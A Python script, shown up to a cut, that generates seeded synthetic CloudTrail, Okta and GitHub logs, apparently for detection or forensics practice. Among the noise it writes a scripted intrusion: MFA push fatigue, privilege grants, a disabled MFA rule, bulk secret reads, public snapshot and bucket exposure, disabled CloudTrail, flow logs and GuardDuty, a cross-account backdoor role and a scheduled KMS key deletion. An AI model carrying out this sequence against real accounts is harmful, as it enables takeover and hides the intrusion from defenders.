#!/usr/bin/env python3
"""Writes the sample logs: one day at Northwind Robotics, 2026-11-17, with an intrusion in it.

    python3 samples/generate.py [folder]

Standard library only. Seeded, so a second run writes the same bytes. Prints a count per file. The story
events are the ones whose ids start with a77ac000; README.md lists them. Everything else is noise.
"""

import gzip
import hashlib
import io
import json
import random
import sys
from collections import Counter
from datetime import datetime, timedelta, timezone
from pathlib import Path

DAY = datetime(2026, 11, 17, tzinfo=timezone.utc)

PRODUCTION, SANDBOX = "111122223333", "444455556666"
OUTSIDE_ACCOUNT = "777788889999"
REGION = "us-east-1"
ORG = "northwind-robotics"
DOMAIN = "northwind-robotics.example"

ATTACKER = "203.0.113.66"
COMMAND_SERVER = "203.0.113.99"
MINING_POOL = "203.0.113.200"
OFFICE = "192.0.2.10"
VPN_EXITS = ["192.0.2.50", "192.0.2.51", "2001:db8:50::1"]

# Autonomous systems 64496 to 64511 are reserved for documentation.
HOME_AS = (64500, "harbor broadband")
OFFICE_AS = (64496, "northwind robotics")
ATTACKER_AS = (64511, "parcel hosting")

# login -> (name, GitHub login, home address)
STAFF = {
    "owen.marsh": ("Owen Marsh", "nw-omarsh", "198.51.100.21"),
    "nadia.voss": ("Nadia Voss", "nw-nvoss", "198.51.100.22"),
    "tessa.brook": ("Tessa Brook", "nw-tbrook", "198.51.100.23"),
    "ines.falk": ("Ines Falk", "nw-ifalk", "198.51.100.24"),
    "jonas.reed": ("Jonas Reed", "nw-jreed", "198.51.100.25"),
    "lena.hart": ("Lena Hart", "nw-lhart", "198.51.100.26"),
    "pete.quill": ("Pete Quill", "nw-pquill", "198.51.100.27"),
    "sami.wolde": ("Sami Wolde", "nw-swolde", "198.51.100.28"),
    "vera.lindt": ("Vera Lindt", "nw-vlindt", "198.51.100.29"),
    "hugo.stein": ("Hugo Stein", "nw-hstein", "198.51.100.30"),
}
ORDINARY = [login for login in STAFF if login not in ("owen.marsh", "nadia.voss")]

CHROME = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/142.0.0.0 Safari/537.36"
)
FIREFOX_LINUX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


# ---- time, ids, files -------------------------------------------------------------------------------


def at(clock):
    """'11:02:07' or '11:02:07.250' on the day."""
    hours, minutes, seconds = clock.split(":")
    return DAY + timedelta(hours=int(hours), minutes=int(minutes), seconds=float(seconds))


def epoch(when):
    return int(when.timestamp())


def iso(when, digits=0):
    text = when.strftime("%Y-%m-%dT%H:%M:%S")
    return f"{text}.{when.microsecond // 1000:03d}Z" if digits else f"{text}Z"


class Rng(random.Random):
    """One per source, so that a change in one leaves the other files as they were."""

    def uuid(self):
        digits = f"{self.getrandbits(128):032x}"
        return f"{digits[:8]}-{digits[8:12]}-4{digits[13:16]}-a{digits[17:20]}-{digits[20:]}"

    def hex(self, length):
        return f"{self.getrandbits(length * 4):0{length}x}"

    def moments(self, count, first="07:30:00", last="18:30:00"):
        start, span = at(first), (at(last) - at(first)).total_seconds()
        seconds = sorted(self.sample(range(int(span)), count))
        return [start + timedelta(seconds=s, milliseconds=self.randrange(1000)) for s in seconds]

    def where(self, login):
        return self.choice([OFFICE, OFFICE, OFFICE, self.choice(VPN_EXITS), STAFF[login][2]])


def story_id(kind, number):
    """kind is one hex digit per source, number counts within it."""
    return f"a77ac000-000{kind}-4000-8000-{number:012d}"


def compact(value):
    return json.dumps(value, separators=(",", ":"), ensure_ascii=False)


def lines(values):
    """JSON lines; text goes in as it is, for the deliberate faults."""
    return "".join((v if isinstance(v, str) else compact(v)) + "\n" for v in values).encode()


def packed(data):
    # No name and no time in the header: the bytes depend on the data only.
    out = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0) as file:
        file.write(data)
    return out.getvalue()


def by_time(pairs):
    return [event for _, event in sorted(pairs, key=lambda pair: pair[0])]


# ---- CloudTrail -------------------------------------------------------------------------------------


def principal_role(rng, account, role, session):
    key = "ASIA" + hashlib.sha1(f"{role}/{session}".encode()).hexdigest()[:9].upper() + "EXAMPLE"
    role_id = "AROA" + hashlib.sha1(role.encode()).hexdigest()[:10].upper() + "EXAMPLE"
    return {
        "type": "AssumedRole",
        "principalId": f"{role_id}:{session}",
        "arn": f"arn:aws:sts::{account}:assumed-role/{role}/{session}",
        "accountId": account,
        "accessKeyId": key,
        "sessionContext": {
            "sessionIssuer": {
                "type": "Role",
                "principalId": role_id,
                "arn": f"arn:aws:iam::{account}:role/{role}",
                "accountId": account,
                "userName": role,
            },
            "attributes": {"creationDate": iso(DAY + timedelta(hours=7, minutes=5)), "mfaAuthenticated": "false"},
        },
    }


def principal_user(account, name, key=None):
    identity = {
        "type": "IAMUser",
        "principalId": "AIDA" + hashlib.sha1(name.encode()).hexdigest()[:10].upper() + "EXAMPLE",
        "arn": f"arn:aws:iam::{account}:user/{name}",
        "accountId": account,
        "userName": name,
    }
    if key:
        identity["accessKeyId"] = key
    return identity


def principal_root(account, key=None):
    identity = {"type": "Root", "principalId": account, "arn": f"arn:aws:iam::{account}:root", "accountId": account}
    if key:
        identity["accessKeyId"] = key
        identity["sessionContext"] = {"attributes": {"creationDate": iso(at("11:02:07")), "mfaAuthenticated": "false"}}
    return identity


def api_call(rng, when, account, identity, service, name, request=None, response=None, ip=OFFICE, **more):
    read_only = name.startswith(("Get", "List", "Describe", "Head", "Lookup", "Assume", "Decrypt"))
    host = f"{service}.{REGION}.amazonaws.com"
    record = {
        "eventVersion": "1.11",
        "userIdentity": identity,
        "eventTime": iso(when),
        "eventSource": f"{service}.amazonaws.com",
        "eventName": name,
        "awsRegion": REGION,
        "sourceIPAddress": ip,
        "userAgent": "aws-cli/2.31.4 md/awscrt#0.27.6 ua/2.1 os/linux#6.8 lang/python#3.13",
        "requestParameters": request,
        "responseElements": response,
        "requestID": rng.uuid(),
        "eventID": rng.uuid(),
        "readOnly": read_only,
        "eventType": "AwsApiCall",
        "managementEvent": True,
        "recipientAccountId": account,
        "eventCategory": "Management",
        "tlsDetails": {
            "tlsVersion": "TLSv1.3",
            "cipherSuite": "TLS_AES_128_GCM_SHA256",
            "clientProvidedHostHeader": host,
        },
    }
    if not ip[0].isdigit():  # a service calls on our behalf: no TLS to speak of
        del record["tlsDetails"]
    record.update(more)
    return when, record


def console_login(rng, when, account, identity, ip, mfa, outcome="Success", **more):
    _, record = api_call(
        rng, when, account, identity, "signin", "ConsoleLogin", None, {"ConsoleLogin": outcome}, ip,
        userAgent=CHROME,
        eventType="AwsConsoleSignIn",
        readOnly=False,
        additionalEventData={
            "LoginTo": f"https://console.aws.amazon.com/console/home?region={REGION}",
            "MobileVersion": "No",
            "MFAUsed": mfa,
        },
        **more,
    )
    del record["requestID"]
    record["tlsDetails"]["clientProvidedHostHeader"] = "signin.aws.amazon.com"
    return when, record


def cloudtrail_noise(rng, account, count, first, last):
    """What an account does all day: roles reading, builds deploying, services acting for it, people looking."""
    runner = principal_role(rng, account, "build-runner", "i-0a1b2c3d4e5f60718")
    fleet = principal_role(rng, account, "fleet-console", "fleet-console-7d9c")
    scanner = principal_role(rng, account, "config-scanner", "nightly")
    events = []
    for when in rng.moments(count, first, last):
        login = rng.choice(ORDINARY)
        person = principal_role(rng, account, "AWSReservedSSO_Developer_0f1e2d3c4b5a6978", f"{login}@{DOMAIN}")
        ip = rng.where(login)
        bucket = rng.choice(["northwind-telemetry", "northwind-firmware", "northwind-build-cache"])
        pick = rng.choices(
            ["describe", "secret", "decrypt", "object", "assume", "list", "look", "deploy", "scale", "denied", "login",
             "service"],
            [20, 6, 10, 12, 14, 10, 10, 5, 3, 4, 3, 3],
        )[0]
        call = lambda *a, **k: events.append(api_call(rng, when, account, *a, **k))
        if pick == "describe":
            call(scanner, "ec2", rng.choice(["DescribeInstances", "DescribeSecurityGroups", "DescribeVolumes"]),
                 {"maxResults": 100, "filterSet": {}}, ip="10.0.9.12", vpcEndpointId="vpce-0c0ffee0c0ffee001",
                 vpcEndpointAccountId=account)
        elif pick == "secret":
            call(fleet, "secretsmanager", "GetSecretValue", {"secretId": "prod/fleet-console/db"}, ip="10.0.12.40")
        elif pick == "decrypt":
            arn = f"arn:aws:kms:{REGION}:{account}:key/11111111-2222-4333-8444-555555555555"
            call(fleet, "kms", "Decrypt", {"encryptionAlgorithm": "SYMMETRIC_DEFAULT", "keyId": arn}, ip="10.0.12.40",
                 resources=[{"accountId": account, "type": "AWS::KMS::Key", "ARN": arn}])
        elif pick == "object":
            call(runner, "s3", rng.choice(["GetObject", "PutObject", "HeadObject"]),
                 {"bucketName": bucket, "key": f"builds/{rng.hex(8)}.tar", "Host": f"{bucket}.s3.amazonaws.com"},
                 ip="198.51.100.140", managementEvent=False, eventCategory="Data",
                 additionalEventData={"SignatureVersion": "SigV4", "bytesTransferredOut": rng.randrange(4096, 900000),
                                      "AuthenticationMethod": "AuthHeader"},
                 resources=[{"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{bucket}/builds"},
                            {"accountId": account, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{bucket}"}])
        elif pick == "assume":
            events.append(api_call(
                rng, when, account, {"type": "AWSService", "invokedBy": "lambda.amazonaws.com"}, "sts", "AssumeRole",
                {"roleArn": f"arn:aws:iam::{account}:role/fleet-console", "roleSessionName": "fleet-console-7d9c"},
                {"credentials": {"accessKeyId": "ASIAIOSFODNN7EXAMPLE", "expiration": "Nov 17, 2026, 7:00:00 PM"}},
                ip="lambda.amazonaws.com", userAgent="lambda.amazonaws.com", sharedEventID=rng.uuid()))
        elif pick == "list":
            call(scanner, rng.choice(["iam", "s3"]), rng.choice(["ListUsers", "ListRoles", "ListBuckets"]), None,
                 ip="10.0.9.12")
        elif pick == "look":
            call(person, "logs", rng.choice(["DescribeLogGroups", "GetLogEvents", "FilterLogEvents"]),
                 {"logGroupName": "/aws/lambda/fleet-console"}, ip=ip, userAgent=CHROME,
                 sessionCredentialFromConsole="true")
        elif pick == "deploy":
            call(runner, "lambda", "UpdateFunctionCode20150331v2",
                 {"functionName": "fleet-console", "dryRun": False, "publish": True},
                 {"functionName": "fleet-console", "version": str(rng.randrange(100, 140))}, ip="198.51.100.140",
                 apiVersion="2015-03-31")
        elif pick == "scale":
            events.append(api_call(
                rng, when, account, {"type": "AWSService", "invokedBy": "autoscaling.amazonaws.com"}, "ec2",
                "RunInstances",
                {"instancesSet": {"items": [{"imageId": "ami-0abcdef1234567890", "minCount": 1, "maxCount": 1}]},
                 "instanceType": "m7g.large"},
                {"instancesSet": {"items": [{"instanceId": f"i-0{rng.hex(16)}", "instanceType": "m7g.large"}]}},
                ip="autoscaling.amazonaws.com", userAgent="autoscaling.amazonaws.com"))
        elif pick == "denied":
            call(person, "ce", "GetCostAndUsage", None, ip=ip, errorCode="AccessDenied",
                 errorMessage=f"User: {person['arn']} is not authorized to perform: ce:GetCostAndUsage")
        elif pick == "login":
            # Single sign-on: the second factor was asked for by Okta, so AWS itself says No.
            events.append(console_login(rng, when, account, person, ip, "No"))
        else:
            events.append(api_call(
                rng, when, account, {"accountId": account, "invokedBy": "AWS Internal"}, "kms", "RotateKey", None,
                None, ip="AWS Internal", userAgent="AWS Internal", eventType="AwsServiceEvent",
                serviceEventDetails={"rotationType": "AUTOMATIC"}))
            del events[-1][1]["requestID"]
    return events


def cloudtrail_story(rng):
    """11:01 to 11:44: root, a key for a service user, and everything that key can do."""
    a, root = PRODUCTION, principal_root(PRODUCTION, "ASIAIOSFODNN7EXAMPLE")
    deploy = principal_user(a, "svc-deploy", "AKIAIOSFODNN7EXAMPLE")
    trail = f"arn:aws:cloudtrail:{REGION}:{a}:trail/app-trail"
    events = []

    def add(clock, identity, service, name, request=None, response=None, **more):
        more.setdefault("ip", ATTACKER)
        events.append(api_call(rng, at(clock), a, identity, service, name, request, response,
                               eventID=story_id("a", len(events) + 1), **more))

    def login(clock, outcome, **more):
        events.append(console_login(rng, at(clock), a, principal_root(a), ATTACKER, "No", outcome,
                                    eventID=story_id("a", len(events) + 1), **more))

    login("11:01:12", "Failure", errorMessage="Failed authentication")
    login("11:02:07", "Success")
    add("11:06:31", root, "iam", "CreateAccessKey", {"userName": "svc-deploy"},
        {"accessKey": {"accessKeyId": "AKIAIOSFODNN7EXAMPLE", "status": "Active", "userName": "svc-deploy",
                       "createDate": "Nov 17, 2026, 11:06:31 AM"}},
        userAgent=CHROME, sessionCredentialFromConsole="true")
    add("11:08:02", root, "iam", "AttachUserPolicy",
        {"userName": "svc-deploy", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
        userAgent=CHROME, sessionCredentialFromConsole="true")
    add("11:10:15", deploy, "sts", "GetCallerIdentity")
    secrets = [f"prod/{team}/{what}" for team in ("fleet-console", "billing", "telemetry", "firmware-signing")
               for what in ("db", "api-key", "oauth-client", "smtp", "signing-key")]
    for number, secret in enumerate(secrets):
        denied = secret.startswith("prod/firmware-signing/")
        problem = {"errorCode": "AccessDenied", "errorMessage": "Access to KMS is not allowed"} if denied else {}
        add(f"11:{11 + number // 10}:{5 * (number % 10):02d}", deploy, "secretsmanager", "GetSecretValue",
            {"secretId": secret}, **problem)
    add("11:16:40", deploy, "ec2", "AuthorizeSecurityGroupIngress",
        {"groupId": "sg-0feed0feed0feed01", "ipPermissions": {"items": [
            {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "groups": {}, "prefixListIds": {},
             "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}, "ipv6Ranges": {"items": [{"cidrIpv6": "::/0"}]}}]}},
        {"requestId": story_id("b", 1), "_return": True})
    add("11:19:22", deploy, "ec2", "ModifySnapshotAttribute",
        {"snapshotId": "snap-0123456789abcdef0", "attributeType": "CREATE_VOLUME_PERMISSION",
         "createVolumePermission": {"add": {"items": [{"group": "all"}]}}},
        {"requestId": story_id("b", 2), "_return": True})
    add("11:22:03", deploy, "s3", "PutBucketPublicAccessBlock",
        {"bucketName": "northwind-telemetry", "Host": "northwind-telemetry.s3.amazonaws.com",
         "PublicAccessBlockConfiguration": {"RestrictPublicBuckets": False, "BlockPublicPolicy": False,
                                            "BlockPublicAcls": False, "IgnorePublicAcls": False}})
    add("11:23:10", deploy, "s3", "PutBucketAcl",
        {"bucketName": "northwind-telemetry", "acl": "", "Host": "northwind-telemetry.s3.amazonaws.com",
         "x-amz-acl": "public-read"})
    add("11:26:55", deploy, "ec2", "RunInstances",
        {"instancesSet": {"items": [{"imageId": "ami-0abcdef1234567890", "minCount": 20, "maxCount": 20}]},
         "instanceType": "p5.48xlarge", "disableApiTermination": True},
        {"instancesSet": {"items": [{"instanceId": "i-0bad0bad0bad0bad1", "instanceType": "p5.48xlarge"}]}})
    add("11:31:09", deploy, "cloudtrail", "StopLogging", {"name": trail})
    add("11:33:47", deploy, "ec2", "DeleteFlowLogs",
        {"DeleteFlowLogsRequest": {"FlowLogId": {"tag": 1, "content": "fl-0123456789abcdef0"}}},
        {"DeleteFlowLogsResponse": {"unsuccessful": ""}})
    add("11:38:20", deploy, "guardduty", "DeleteDetector", {"detectorId": "12abc34d567e8fa901bc2d34e56789f0"})
    add("11:41:33", deploy, "iam", "UpdateAssumeRolePolicy",
        {"roleName": "fleet-console", "policyDocument": compact(
            {"Version": "2012-10-17", "Statement": [
                {"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{OUTSIDE_ACCOUNT}:root"},
                 "Action": "sts:AssumeRole"}]})})
    add("11:44:58", deploy, "kms", "ScheduleKeyDeletion",
        {"keyId": f"arn:aws:kms:{REGION}:{a}:key/11111111-2222-4333-8444-555555555555", "pendingWindowInDays": 7},
        {"keyId": f"arn:aws:kms:{REGION}:{a}:key/11111111-2222-4333-8444-555555555555",
         "keyState": "PendingDeletion", "deletionDate": "Nov 24, 2026, 11:44:58 AM"})
    return events


def cloudtrail_insights():
    def insight(clock, number, state):
        details = {
            "state": state,
            "eventSource": "ec2.amazonaws.com",
            "eventName": "RunInstances",
            "insightType": "ApiCallRateInsight",
            "insightContext": {
                "statistics": {"baseline": {"average": 0.0031}, "insight": {"average": 20.0}, "insightDuration": 6,
                               "baselineDuration": 10080},
                "attributions": [{"attribute": "userIdentityArn",
                                  "insight": [{"value": f"arn:aws:iam::{PRODUCTION}:user/svc-deploy",
                                               "average": 20.0}],
                                  "baseline": []}],
            },
        }
        return {
            "eventVersion": "1.09", "eventTime": iso(at(clock)), "awsRegion": REGION,
            "eventID": story_id("a", number), "eventType": "AwsCloudTrailInsight",
            "recipientAccountId": PRODUCTION, "sharedEventID": "a77ac000-000a-4000-9000-000000000001",
            "insightDetails": details, "eventCategory": "Insight",
        }
    return [insight("11:27:00", 101, "Start"), insight("11:33:00", 102, "End")]


def cloudtrail_digest(log_files):
    def entry(name, data):
        return {
            "s3Bucket": "northwind-production-cloudtrail",
            "s3Object": f"AWSLogs/{PRODUCTION}/CloudTrail/{REGION}/2026/11/17/{name}",
            "hashValue": hashlib.sha256(data).hexdigest(), "hashAlgorithm": "SHA-256",
            "newestEventTime": iso(at("11:59:00")), "oldestEventTime": iso(at("11:00:00")),
        }
    folder = f"AWSLogs/{PRODUCTION}/CloudTrail-Digest/{REGION}/2026/11/17"
    return {
        "awsAccountId": PRODUCTION, "digestStartTime": iso(at("11:00:00")), "digestEndTime": iso(at("12:00:00")),
        "digestS3Bucket": "northwind-production-cloudtrail",
        "digestS3Object": f"{folder}/{PRODUCTION}_CloudTrail-Digest_{REGION}_org-trail_20261117T120000Z.json.gz",
        "digestPublicKeyFingerprint": "00112233445566778899aabbccddeeff",
        "digestSignatureAlgorithm": "SHA256withRSA",
        "newestEventTime": iso(at("11:59:00")), "oldestEventTime": iso(at("11:00:00")),
        "previousDigestS3Bucket": "northwind-production-cloudtrail",
        "previousDigestS3Object": f"{folder}/{PRODUCTION}_CloudTrail-Digest_{REGION}_org-trail_20261117T110000Z.json.gz",
        "previousDigestHashValue": hashlib.sha256(b"previous").hexdigest(),
        "previousDigestHashAlgorithm": "SHA-256",
        "previousDigestSignature": hashlib.sha512(b"previous").hexdigest(),
        "logFiles": [entry(name, data) for name, data in log_files],
    }


def cloudtrail(rng):
    morning = cloudtrail_noise(rng, PRODUCTION, 60, "10:00:00", "10:59:00")
    midday = cloudtrail_noise(rng, PRODUCTION, 70, "11:00:00", "11:59:00") + cloudtrail_story(rng)
    sandbox = cloudtrail_noise(rng, SANDBOX, 45, "10:00:00", "10:59:00")
    # A drill, not the intrusion: the break-glass user signs in from the VPN, with a second factor.
    drill = console_login(rng, at("10:20:44"), SANDBOX, principal_user(SANDBOX, "breakglass-aws"), VPN_EXITS[0], "Yes")
    # The vendor adds a key that the schema does not know yet.
    newer = api_call(rng, at("10:41:19"), SANDBOX, principal_role(rng, SANDBOX, "config-scanner", "nightly"), "ec2",
                     "DescribeInstances", {"maxResults": 100}, ip="10.0.9.12",
                     eventVersion="1.12", eventID="0dd0f1e1-d000-4000-8000-000000000001",
                     callerAttestation={"attested": True, "platform": "nitro"})
    sandbox += [drill, newer]

    document = lambda events: compact({"Records": by_time(events)}).encode()
    name = lambda account, hour, tail: f"{account}_CloudTrail_{REGION}_20261117T{hour}Z_{tail}.json"
    files = {
        name(PRODUCTION, "1000", "Qe7nVb2xLr0sKd9a") + ".gz": packed(document(morning)),
        name(PRODUCTION, "1100", "Zt4mHw8cPy6uJf1e") + ".gz": packed(document(midday)),
        name(SANDBOX, "1000", "Nb3kXg5vTa7iRo2q"): document(sandbox),
    }
    digest = cloudtrail_digest([pair for pair in files.items() if "T1100Z" in pair[0]])
    files[f"{PRODUCTION}_CloudTrail-Insight_{REGION}_20261117T1135Z_Lw9dUe1yMc5oSh8j.json.gz"] = packed(
        compact({"Records": cloudtrail_insights()}).encode())
    files[f"{PRODUCTION}_CloudTrail-Digest_{REGION}_org-trail_20261117T120000Z.json.gz"] = packed(
        compact(digest).encode())
    counts = {file: count for file, count in zip(
        files, [len(morning), len(midday), len(sandbox), 2, 1])}
    return files, counts


# ---- Okta -------------------------------------------------------------------------------------------


OKTA_IDS = {login: "00u" + hashlib.sha1(login.encode()).hexdigest()[:17] for login in STAFF}


def okta_user(login, kind="User"):
    return {"id": OKTA_IDS[login], "type": kind, "alternateId": f"{login}@{DOMAIN}", "displayName": STAFF[login][0],
            "detailEntry": None}


def okta_event(rng, when, login, ip, kind, message, target=None, result="SUCCESS", reason=None, severity="INFO",
               debug=None, **more):
    hostile = ip == ATTACKER
    system = ATTACKER_AS if hostile else OFFICE_AS if ip.startswith(("192.0.2.", "2001:")) else HOME_AS
    place = ("Port Example", "Elsewhere") if hostile else ("Harbor City", "Homeland")
    session = "102" + hashlib.sha1(f"{login}{ip}".encode()).hexdigest()[:17]
    event = {
        "actor": okta_user(login),
        "client": {
            "userAgent": {"rawUserAgent": FIREFOX_LINUX if hostile else CHROME,
                          "os": "Linux" if hostile else "Mac OS X", "browser": "FIREFOX" if hostile else "CHROME"},
            "zone": "null", "device": "Computer", "id": None, "ipAddress": ip,
            "geographicalContext": {"city": place[0], "state": place[0], "country": place[1], "postalCode": "00000",
                                    "geolocation": {"lat": 0.0, "lon": 0.0}},
        },
        "device": None,
        "authenticationContext": {"authenticationProvider": None, "credentialProvider": None, "credentialType": None,
                                  "issuer": None, "interface": None, "authenticationStep": 0,
                                  "externalSessionId": session},
        "displayMessage": message,
        "eventType": kind,
        "outcome": {"result": result, "reason": reason},
        "published": iso(when, 3),
        "securityContext": {"asNumber": system[0], "asOrg": system[1], "isp": system[1],
                            "domain": "hosting.example" if hostile else "broadband.example", "isProxy": hostile},
        "severity": severity,
        "debugContext": {"debugData": {"requestId": rng.hex(24), "requestUri": "/api/v1/authn",
                                       "threatSuspected": "true" if hostile else "false", **(debug or {})}},
        "legacyEventType": None,
        "transaction": {"type": "WEB", "id": rng.hex(24), "detail": {}},
        "uuid": rng.uuid(),
        "version": "0",
        "request": {"ipChain": [{"ip": ip, "geographicalContext": None, "version": "V6" if ":" in ip else "V4",
                                 "source": None}]},
        "target": target,
    }
    event.update(more)
    return when, event


def okta_factor(login, name="Okta Verify"):
    return [okta_user(login), {"id": "opf" + OKTA_IDS[login][3:], "type": "AuthenticatorEnrollment",
                               "alternateId": "unknown", "displayName": name, "detailEntry": None}]


def okta(rng):
    events = []
    add = lambda *a, **k: events.append(okta_event(rng, *a, **k))
    apps = ["GitHub Enterprise Cloud", "AWS IAM Identity Center", "Chat", "Duo Admin Panel", "Wiki"]
    for when in rng.moments(90):
        login = rng.choice(list(STAFF))
        ip = rng.where(login)
        app = [{"id": "0oa" + hashlib.sha1(a.encode()).hexdigest()[:17], "type": "AppInstance", "alternateId": a,
                "displayName": a, "detailEntry": {"signOnModeType": "SAML_2_0"}} for a in [rng.choice(apps)]]
        pick = rng.choices(["start", "mfa", "sso", "policy", "end", "wrong", "deny", "group"],
                           [18, 18, 30, 12, 10, 5, 2, 3])[0]
        if pick == "start":
            add(when, login, ip, "user.session.start", "User login to Okta", [okta_user(login)],
                legacyEventType="core.user_auth.login_success")
        elif pick == "mfa":
            add(when, login, ip, "user.authentication.auth_via_mfa", "Authentication of user via MFA",
                okta_factor(login), debug={"factor": "OKTA_VERIFY_PUSH"})
        elif pick == "sso":
            add(when, login, ip, "user.authentication.sso", "User single sign on to app", app,
                legacyEventType="app.auth.sso")
        elif pick == "policy":
            add(when, login, ip, "policy.evaluate_sign_on", "Evaluation of sign-on policy",
                [{"id": "00p1policydefault000", "type": "PolicyEntity", "alternateId": "unknown",
                  "displayName": "Default Policy", "detailEntry": {"policyType": "OktaSignOn"}}],
                result="ALLOW", reason="Sign-on policy evaluation resulted in ALLOW")
        elif pick == "end":
            add(when, login, ip, "user.session.end", "User logout from Okta", [okta_user(login)],
                legacyEventType="core.user_auth.logout_success")
        elif pick == "wrong":
            add(when, login, ip, "user.session.start", "User login to Okta", [okta_user(login)], result="FAILURE",
                reason="INVALID_CREDENTIALS", legacyEventType="core.user_auth.login_failed")
        elif pick == "deny":
            login = rng.choice(ORDINARY)
            add(when, login, rng.where(login), "user.mfa.okta_verify.deny_push", "User rejected Okta push verify",
                okta_factor(login), result="FAILURE", reason="User rejected the push", severity="WARN")
        else:
            add(when, "nadia.voss", OFFICE, "group.user_membership.add", "Add user to group membership",
                [okta_user(rng.choice(ORDINARY)), {"id": "00g1group0000000000a", "type": "UserGroup",
                                                    "alternateId": "unknown", "displayName": "Wiki editors",
                                                    "detailEntry": None}])

    def story(clock, login, *a, ip=ATTACKER, **k):
        number = sum(e["uuid"].startswith("a77ac000") for _, e in events) + 1
        add(at(clock), login, ip, *a, uuid=story_id("c", number), **k)

    for clock in ["09:14:02", "09:15:10", "09:16:21", "09:17:30", "09:18:44"]:
        story(clock, "owen.marsh", "user.mfa.okta_verify.deny_push", "User rejected Okta push verify",
              okta_factor("owen.marsh"), result="FAILURE", reason="User rejected the push", severity="WARN")
    behaviors = ("{New Geo-Location=POSITIVE, New Device=POSITIVE, New IP=POSITIVE, New State=POSITIVE, "
                 "New Country=POSITIVE, Velocity=POSITIVE, New City=POSITIVE}")
    risk = "{reasons=Anomalous Location, Anomalous Device, level=HIGH}"
    story("09:20:31", "owen.marsh", "user.authentication.auth_via_mfa", "Authentication of user via MFA",
          okta_factor("owen.marsh"), debug={"factor": "OKTA_VERIFY_PUSH", "behaviors": behaviors, "risk": risk})
    story("09:20:33", "owen.marsh", "user.session.start", "User login to Okta", [okta_user("owen.marsh")],
          debug={"behaviors": behaviors, "risk": risk}, legacyEventType="core.user_auth.login_success")
    story("09:26:15", "owen.marsh", "user.account.report_suspicious_activity_by_enduser",
          "User report suspicious activity", [okta_user("owen.marsh")], ip=OFFICE, severity="WARN",
          debug={"suspiciousActivityEventIp": ATTACKER,
                 "suspiciousActivityEventType": "user.session.start"})
    story("09:29:48", "owen.marsh", "user.session.access_admin_app", "User accessing Okta admin app",
          [okta_user("owen.marsh", "AppUser")])
    story("09:31:20", "owen.marsh", "user.mfa.factor.reset_all", "Reset all factors for user",
          [okta_user("nadia.voss")], severity="WARN", legacyEventType="core.user.factor.reset_all")
    story("09:33:57", "nadia.voss", "user.mfa.factor.activate", "Activate factor for user",
          [okta_user("nadia.voss")], reason="User set up OKTA_VERIFY_PUSH factor",
          legacyEventType="core.user.factor.activate")
    story("09:38:05", "nadia.voss", "system.api_token.create", "Create API token",
          [{"id": "00T1token0000000000a", "type": "Token", "alternateId": "unknown", "displayName": "sync-helper",
            "detailEntry": None}], legacyEventType="api.token.create")
    story("09:41:36", "nadia.voss", "user.account.privilege.grant", "Grant user privilege",
          [okta_user("owen.marsh")], debug={"privilegeGranted": "Super administrator"},
          legacyEventType="core.user.admin_privilege.granted")
    story("09:44:12", "nadia.voss", "policy.rule.deactivate", "Deactivate policy rule",
          [{"id": "0pr1rule00000000000a", "type": "PolicyRule", "alternateId": "00p1policydefault000",
            "displayName": "Require MFA from new devices", "detailEntry": {"policyType": "OktaSignOn"}}])
    story("09:48:30", "nadia.voss", "system.idp.lifecycle.create", "Create identity provider",
          [{"id": "0oa1idp000000000000a", "type": "IdentityProvider", "alternateId": "unknown",
            "displayName": "Northwind SSO 2", "detailEntry": {"type": "SAML2"}}])
    ordered = by_time(events)
    # Fault 1: the writer died in the middle of a line.
    cut = compact(ordered[40])[:312]
    return lines(ordered[:41] + [cut] + ordered[41:]), len(ordered)


# ---- GitHub -----------------------------------------------------------------------------------------


def github(rng):
    events = []
    token = hashlib.sha256(b"northwind sample token").hexdigest()
    ids = {login: 70000 + n for n, login in enumerate(STAFF)}

    def add(when, login, action, ip=None, repo=None, **more):
        event = {"@timestamp": int(when.timestamp() * 1000), "_document_id": rng.hex(22), "action": action,
                 "actor": STAFF[login][1], "actor_id": ids[login], "actor_ip": ip or rng.where(login),
                 "actor_location": {"country_code": "ZZ" if ip == ATTACKER else "XX"},
                 "business": "northwind", "business_id": 4001, "org": ORG, "org_id": 90001,
                 "user_agent": FIREFOX_LINUX if ip == ATTACKER else CHROME}
        if not action.startswith("git."):
            event["created_at"] = event["@timestamp"]
        if repo:
            event |= {"repo": f"{ORG}/{repo}", "repo_id": 800000 + sum(map(ord, repo)), "public_repo": False}
        event |= more
        events.append((when, event))

    repos = ["arm-firmware", "fleet-console", "telemetry-ingest", "docs", "infra-live", "gripper-sim"]
    for when in rng.moments(80):
        login, repo = rng.choice(ORDINARY), rng.choice(repos)
        pick = rng.choices(["git", "create", "merge", "run", "approve", "team", "repo", "alert", "key"],
                           [35, 12, 12, 15, 8, 2, 2, 4, 2])[0]
        pull = {"pull_request_id": rng.randrange(10**8, 10**9), "pull_request_title": "Tidy the motion planner",
                "pull_request_url": f"https://github.com/{ORG}/{repo}/pull/{rng.randrange(100, 999)}"}
        if pick == "git":
            add(when, login, rng.choice(["git.push", "git.fetch", "git.fetch", "git.clone"]), repo=repo,
                transport_protocol=2, transport_protocol_name="ssh", programmatic_access_type="SSH key",
                repository=f"{ORG}/{repo}", repository_public=False, user="", user_agent="git/2.51.0")
        elif pick == "create":
            add(when, login, "pull_request.create", repo=repo, operation_type="create", **pull)
        elif pick == "merge":
            add(when, login, "pull_request.merge", repo=repo, operation_type="modify", **pull)
        elif pick == "approve":
            add(when, login, "pull_request_review.submit", repo=repo, review_state="approved", **pull)
        elif pick == "run":
            add(when, login, "workflows.completed_workflow_run", repo=repo, name="build", conclusion="success",
                event="push", head_branch="main", head_sha=rng.hex(40), run_attempt=1,
                run_number=rng.randrange(900, 2000), started_at=iso(when - timedelta(minutes=6)),
                completed_at=iso(when), workflow_id=5101, workflow_run_id=rng.randrange(10**9, 10**10),
                actor_is_bot=True, programmatic_access_type="GitHub App server-to-server token")
        elif pick == "team":
